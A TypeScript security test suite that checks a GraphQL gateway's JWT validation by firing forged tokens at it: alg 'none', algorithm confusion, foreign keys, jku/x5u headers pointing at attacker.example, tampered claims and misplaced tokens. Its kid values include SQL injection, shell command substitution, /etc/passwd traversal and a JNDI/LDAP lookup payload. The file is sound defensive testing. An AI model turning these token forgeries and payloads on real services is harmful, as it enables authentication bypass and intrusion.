import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { Member } from "../e2e/support/clients/accounts.ts";
import { database } from "../e2e/support/stack/database.ts";
import { isBareHasura } from "../e2e/support/stack/engine-of-the-run.ts";
import { headersOf } from "../e2e/support/clients/graphql.ts";
import { call } from "../e2e/support/clients/http.ts";
import { claimsOf, headerOf } from "../e2e/support/clients/sessions.ts";
import { stack } from "../e2e/support/stack/stack.ts";
import { subscribeModern } from "../e2e/support/clients/sockets.ts";
import { type Attack, attacks, gotData } from "./support/attack.ts";
import { stackKey } from "./support/signing.ts";

type Json = Readonly<Record<string, unknown>>;

const encoded = (value: unknown): string =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
const es256 = (input: string, key: KeyObject): string =>
  sign("sha256", Buffer.from(input), { key, dsaEncoding: "ieee-p1363" }).toString("base64url");
const hmac = (algorithm: string, input: string, key: string | Buffer): string =>
  createHmac(algorithm, key).update(input).digest("base64url");
const claimsName = "https://hasura.io/jwt/claims";

/** A token with these parts; `signed` returns its signature. */
function token(header: unknown, claims: unknown, signed: (input: string) => string): string {
  const input = `${encoded(header)}.${encoded(claims)}`;
  return `${input}.${signed(input)}`;
}

/** Result of a query with the token: the reply if it has data. */
async function opens(authorization: string): Promise<string | undefined> {
  const reply = await call("/api/graphql", {
    method: "POST",
    headers: { authorization },
    body: { query: "{ view_hijacks(limit: 1) { key } }" },
  });
  return gotData(reply.status, reply.text);
}

const attempt = (name: string, text: string): Attack => ({ name, run: () => opens(`Bearer ${text}`) });

let member: Member | undefined;
async function right(): Promise<{ text: string; header: Json; claims: Json & { exp: number; iat: number } }> {
  member ??= await Member.join("viewer");
  const text = await member.freshToken();
  return { text, header: headerOf(text), claims: claimsOf(text) };
}

const others = {
  ec: generateKeyPairSync("ec", { namedCurve: "P-256" }),
  ed: generateKeyPairSync("ed25519"),
  rsa: generateKeyPairSync("rsa", { modulusLength: 2048 }),
};

attacks("ASVS 9.1.1, 9.1.2: accepts only the key's algorithm, and never none", async () => {
  const { header, claims } = await right();
  const { publicJwk } = await stackKey();
  const publicKey = createPublicKey({ key: publicJwk, format: "jwk" });
  const none = ["none", "None", "NONE", "nOnE", "", null, 0, false, [], {}, undefined].flatMap((alg) =>
    ["", "AA", encoded("signature")].map((signature) =>
      attempt(
        `alg ${JSON.stringify(alg)}, signature ${signature}`,
        token({ ...header, alg }, claims, () => signature),
      ),
    ),
  );
  const secrets: readonly (string | Buffer)[] = [
    publicKey.export({ type: "spki", format: "pem" }),
    (publicKey.export({ type: "spki", format: "pem" }) as string).trim(),
    publicKey.export({ type: "spki", format: "der" }),
    JSON.stringify(publicJwk),
    JSON.stringify({ keys: [publicJwk] }),
    publicJwk.kid,
    publicJwk.x ?? "",
    publicJwk.y ?? "",
    Buffer.from(publicJwk.x ?? "", "base64url"),
    "",
    "\0",
    "secret",
  ];
  const confused = (["256", "384", "512"] as const).flatMap((size) =>
    secrets.map((secret, index) =>
      attempt(
        `HS${size} with public text ${index}`,
        token({ ...header, alg: `HS${size}` }, claims, (input) => hmac(`sha${size}`, input, secret)),
      ),
    ),
  );
  const foreign = [
    attempt(
      "another key under the right kid",
      token(header, claims, (input) => es256(input, others.ec.privateKey)),
    ),
    attempt(
      "EdDSA under the right kid",
      token({ ...header, alg: "EdDSA" }, claims, (input) =>
        sign(null, Buffer.from(input), others.ed.privateKey).toString("base64url"),
      ),
    ),
    ...["RS256", "PS256", "RS512", "ES256"].map((alg) =>
      attempt(
        `${alg} with an RSA key`,
        token({ ...header, alg }, claims, (input) =>
          sign("sha256", Buffer.from(input), others.rsa.privateKey).toString("base64url"),
        ),
      ),
    ),
    ...["ES384", "ES512", "ES256K", "RS1", "A128KW", "dir"].map((alg) =>
      attempt(
        `${alg} as a name`,
        token({ ...header, alg }, claims, (input) => es256(input, others.ec.privateKey)),
      ),
    ),
  ];
  return [...none, ...confused, ...foreign];
});

attacks("ASVS 9.1.3: no key comes from the token itself", async () => {
  const { header, claims } = await right();
  const jwk = { ...others.ec.publicKey.export({ format: "jwk" }), kid: "own", alg: "ES256", use: "sig" };
  const own = (more: Json) => token({ ...header, ...more }, claims, (input) => es256(input, others.ec.privateKey));
  const addresses = [
    "https://attacker.example/jwks",
    `${stack.url}/jwks`,
    "http://auth-sidecar:8080/jwks",
    "file:///etc/passwd",
    "data:application/json,{}",
    "http://169.254.169.254/",
  ];
  const kids: readonly unknown[] = [
    "own",
    "../../etc/passwd",
    "/dev/null",
    "' or '1'='1",
    "'; drop table auth.signing_keys --",
    "$(id)",
    "`id`",
    "http://attacker.example/key",
    "\0",
    "",
    " ",
    "*",
    "__proto__",
    "constructor",
    null,
    0,
    -1,
    [],
    {},
    true,
    ["own"],
    "k".repeat(4000),
    "\u202e",
    "%00",
    "${jndi:ldap://attacker.example/a}",
  ];
  return [
    attempt("jwk", own({ jwk })),
    attempt("jwk alone", own({ jwk, kid: undefined })),
    attempt("jwk with kid", own({ jwk, kid: "own" })),
    ...addresses.flatMap((address) => [
      attempt(`jku ${address}`, own({ jku: address })),
      attempt(`x5u ${address}`, own({ x5u: address, kid: undefined })),
    ]),
    attempt("x5c", own({ x5c: ["MIIB"] })),
    attempt("x5t", own({ x5t: "AAAA", kid: undefined })),
    attempt("crit", own({ crit: ["exp"] })),
    attempt("crit b64", own({ crit: ["b64"], b64: false })),
    attempt("zip", own({ zip: "DEF" })),
    attempt("enc", own({ enc: "A128GCM" })),
    attempt("nested", own({ cty: "JWT" })),
    ...kids.map((kid) => attempt(`kid ${JSON.stringify(kid)?.slice(0, 40)}`, own({ kid }))),
  ];
});

attacks("rejects a token with any change", async () => {
  const { text, claims } = await right();
  const [head = "", body = "", signature = ""] = text.split(".");
  const raised = encoded(JSON.stringify(claims).replaceAll("viewer", "operator"));
  const flips = Array.from({ length: 64 }, (_, index) => {
    const bytes = Buffer.from(signature, "base64url");
    bytes[index] = bytes[index]! ^ (1 << (index % 8));
    return attempt(`bit of byte ${index} of the signature`, `${head}.${body}.${bytes.toString("base64url")}`);
  });
  const half = "A".repeat(43);
  return [
    ...flips,
    attempt("a role raised", `${head}.${raised}.${signature}`),
    attempt("no signature", `${head}.${body}.`),
    attempt("no third part", `${head}.${body}`),
    attempt("half a signature", `${head}.${body}.${signature.slice(0, 43)}`),
    attempt("a signature of zeros", `${head}.${body}.${Buffer.alloc(64).toString("base64url")}`),
    attempt("a signature of r=0", `${head}.${body}.${half}${signature.slice(43)}`),
    attempt("a signature twice", `${head}.${body}.${signature}${signature}`),
    attempt("four parts", `${text}.${signature}`),
    attempt("five parts", `${text}..`),
    attempt("parts in another order", `${body}.${head}.${signature}`),
    attempt("no header", `.${body}.${signature}`),
    attempt("no body", `${head}..${signature}`),
    attempt("ordinary base64 with padding", `${head}=.${body}=.${signature}=`),
    attempt("a JSON serialisation", encoded({ payload: body, protected: head, signature })),
    attempt("blanks inside", `${head} .${body}. ${signature}`),
    attempt("dots alone", ".."),
    attempt("nothing", ""),
    attempt("8 KiB of dots", ".".repeat(7000)),
    attempt("7 KiB of letters", "a".repeat(7000)),
  ];
});

attacks("ASVS 9.2.1 to 9.2.4: checks all claims in addition to the signature", async () => {
  const { header, claims } = await right();
  const { privateKey } = await stackKey();
  const signed = (body: unknown) => token(header, body, (input) => es256(input, privateKey));
  const now = Math.floor(Date.now() / 1000);
  const hasura = claims[claimsName] as Json;
  const without = (name: string): Json => Object.fromEntries(Object.entries(claims).filter(([key]) => key !== name));
  const changed: Readonly<Record<string, unknown>> = {
    "expired a minute ago": { ...claims, exp: now - 60 },
    "expired in 1970": { ...claims, exp: 0 },
    "exp negative": { ...claims, exp: -1 },
    "exp as text": { ...claims, exp: "9999999999" },
    "exp null": { ...claims, exp: null },
    "exp a list": { ...claims, exp: [9_999_999_999] },
    "exp absent": without("exp"),
    // Bare Hasura v2 does not bound the life of a token.
    ...(isBareHasura
      ? {}
      : {
          "ten years long": { ...claims, exp: now + 315_360_000 },
          "a second too long": { ...claims, iat: now - 10, exp: now - 10 + stack.tokenLifeSeconds + 2 },
          "exp 1e300": { ...claims, exp: 1e300 },
          "exp beyond all numbers": JSON.stringify({ ...claims, exp: 0 }).replace('"exp":0', '"exp":1e999'),
          "iat of 1970": { ...claims, iat: 0 },
          "iat absent": without("iat"),
        }),
    "nbf in an hour": { ...claims, nbf: now + 3600 },
    "nbf as text": { ...claims, nbf: "0" },
    "another issuer": { ...claims, iss: "https://attacker.example" },
    "issuer with a blank": { ...claims, iss: "routeql " },
    "issuer in capitals": { ...claims, iss: "ROUTEQL" },
    "issuer a list": { ...claims, iss: ["routeql"] },
    "issuer absent": without("iss"),
    "another audience": { ...claims, aud: "other" },
    "audience empty": { ...claims, aud: [] },
    "audience nested": { ...claims, aud: [["routeql"]] },
    "audience absent": without("aud"),
    "claims absent": without(claimsName),
    "claims null": { ...claims, [claimsName]: null },
    "claims as text": { ...claims, [claimsName]: JSON.stringify(hasura) },
    "claims as a list": { ...claims, [claimsName]: [hasura] },
    "no default role": { ...claims, [claimsName]: { ...hasura, "x-hasura-default-role": undefined } },
    "no allowed roles": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": undefined } },
    "allowed roles as text": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": "viewer" } },
    "allowed roles empty": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": [] } },
    "a default role that is not allowed": {
      ...claims,
      [claimsName]: { ...hasura, "x-hasura-default-role": "operator" },
    },
    "an unknown role": {
      ...claims,
      [claimsName]: { "x-hasura-default-role": "root", "x-hasura-allowed-roles": ["root"] },
    },
    "the role pending": {
      ...claims,
      [claimsName]: { "x-hasura-default-role": "pending", "x-hasura-allowed-roles": ["pending"] },
    },
    "an empty role": { ...claims, [claimsName]: { "x-hasura-default-role": "", "x-hasura-allowed-roles": [""] } },
    "a role with a blank": {
      ...claims,
      [claimsName]: { "x-hasura-default-role": "viewer ", "x-hasura-allowed-roles": ["viewer "] },
    },
    "a body that is text": "viewer",
    "a body that is a list": [claims],
    "a body that is null": null,
    "a body cut off": JSON.stringify(claims).slice(0, -1),
    "exp twice, the last one past": `${JSON.stringify(claims).slice(0, -1)},"exp":1}`,
    "the claims twice, the last ones empty": `${JSON.stringify(claims).slice(0, -1)},"${claimsName}":{}}`,
  };
  return Object.entries(changed).map(([name, body]) => attempt(name, signed(body)));
});

attacks("no token grants admin, and a tenant without an organisation sees nothing", async () => {
  const { header, claims } = await right();
  const { privateKey } = await stackKey();
  const signed = (hasura: Json) =>
    token(header, { ...claims, [claimsName]: hasura }, (input) => es256(input, privateKey));
  const ask = async (text: string, query: string, more: Record<string, string> = {}) => {
    const reply = await call("/api/graphql", {
      method: "POST",
      headers: { authorization: `Bearer ${text}`, ...more },
      body: { query },
    });
    return reply;
  };
  const roles = { "x-hasura-default-role": "viewer", "x-hasura-allowed-roles": ["viewer", "admin"] };
  const tenant = { "x-hasura-default-role": "tenant", "x-hasura-allowed-roles": ["tenant"] };
  const variables: readonly Json[] = [
    {},
    { "x-hasura-org-id": "" },
    { "x-hasura-org-id": "' or true --" },
    { "x-hasura-org-id": "{}" },
    { "x-hasura-org-id": "%" },
    { "x-hasura-org-id": "null" },
  ];
  const admin: Attack[] = [
    {
      name: "an account with the role admin",
      async run() {
        // The content of tokens from the sidecar. Not even the tables' owner can write it.
        const owner = await database("owner");
        const made = owner.query(
          "insert into auth.users (id, email, name, role) values ('e2e-admin', 'admin-role@example.net', 'x', 'admin')",
        );
        return made.then(
          () => "it was made",
          () => undefined,
        );
      },
    },
    {
      name: "admin among the allowed roles, requested in a header",
      async run() {
        // No header of the engine passes the gateway, so the reply is a viewer's, without aggregates.
        const { status, text } = await ask(signed(roles), "{ view_hijacks_aggregate { aggregate { count } } }", {
          "x-hasura-role": "admin",
        });
        return gotData(status, text);
      },
    },
  ];
  return [
    ...admin,
    ...variables.map((variable): Attack => ({
      name: `tenant with ${JSON.stringify(variable)}`,
      async run() {
        const { status, text } = await ask(
          signed({ ...tenant, ...variable }),
          "{ view_hijacks { key } view_bgpupdates { prefix } }",
        );
        return text === '{"data":{"view_hijacks":[],"view_bgpupdates":[]}}' ? undefined : gotData(status, text);
      },
    })),
  ];
});

attacks("a token counts only in one Authorization header, as Bearer", async () => {
  const { text } = await right();
  const body = { query: "{ view_hijacks(limit: 1) { key } }" };
  const elsewhere: Readonly<Record<string, { path?: string; headers?: Record<string, string>; body?: unknown }>> = {
    "in the query": { path: `/api/graphql?access_token=${text}&token=${text}&jwt=${text}` },
    "in a cookie": { headers: { cookie: `token=${text}; Authorization=Bearer ${text}; sid=${text}` } },
    "in the body": {
      body: {
        ...body,
        access_token: text,
        headers: { authorization: `Bearer ${text}` },
        extensions: { authorization: text },
      },
    },
    "in X-Authorization": { headers: { "x-authorization": `Bearer ${text}` } },
    "in Proxy-Authorization": { headers: { "proxy-authorization": `Bearer ${text}` } },
    "in X-Access-Token": { headers: { "x-access-token": text } },
    "as Basic": { headers: { authorization: `Basic ${text}` } },
    "as Token": { headers: { authorization: `Token ${text}` } },
    "without a scheme": { headers: { authorization: text } },
    "after a comma": { headers: { authorization: `Basic YTpi, Bearer ${text}` } },
    "as the master key": { headers: { "x-engine-access-key": text } },
    "as a session variable": {
      headers: { "x-hasura-access-key": stack.engineAccessKey, "x-hasura-admin-secret": stack.engineAccessKey },
    },
    "with a role alone": { headers: { "x-hasura-role": "operator", "x-hasura-user-id": "1" } },
  };
  return Object.entries(elsewhere).map(
    ([name, { path = "/api/graphql", headers = {}, body: other = body }]): Attack => ({
      name,
      async run() {
        const reply = await call(path, { method: "POST", headers, body: other });
        return gotData(reply.status, reply.text);
      },
    }),
  );
});

attacks("the same rules apply to WebSockets, in the upgrade and in connection_init", async () => {
  const { header, claims, text } = await right();
  const { privateKey } = await stackKey();
  const signed = (more: Json) => token(header, { ...claims, ...more }, (input) => es256(input, privateKey));
  const bad: Readonly<Record<string, string>> = {
    none: token({ ...header, alg: "none" }, claims, () => ""),
    foreign: token(header, claims, (input) => es256(input, others.ec.privateKey)),
    expired: signed({ exp: 1 }),
    "another issuer": signed({ iss: "other" }),
    "another audience": signed({ aud: "other" }),
    pending: signed({ [claimsName]: { "x-hasura-default-role": "pending", "x-hasura-allowed-roles": ["pending"] } }),
    cut: text.slice(0, -10),
    nothing: "",
  };
  return Object.entries(bad).flatMap(([name, value]) =>
    [
      { payload: { headers: headersOf({ token: value }) } },
      { payload: headersOf({ token: value }) },
      { headers: headersOf({ token: value }) },
    ].map((options, index): Attack => ({
      name: `${name} ${index}`,
      async run() {
        const feed = subscribeModern("subscription { view_hijacks(limit: 1) { key } }", options);
        await Promise.race([feed.closing, feed.until(() => true, 8000).catch(() => undefined)]);
        const got = feed.answers.length > 0 ? JSON.stringify(feed.answers[0]) : undefined;
        await feed.dispose();
        return got;
      },
    })),
  );
});
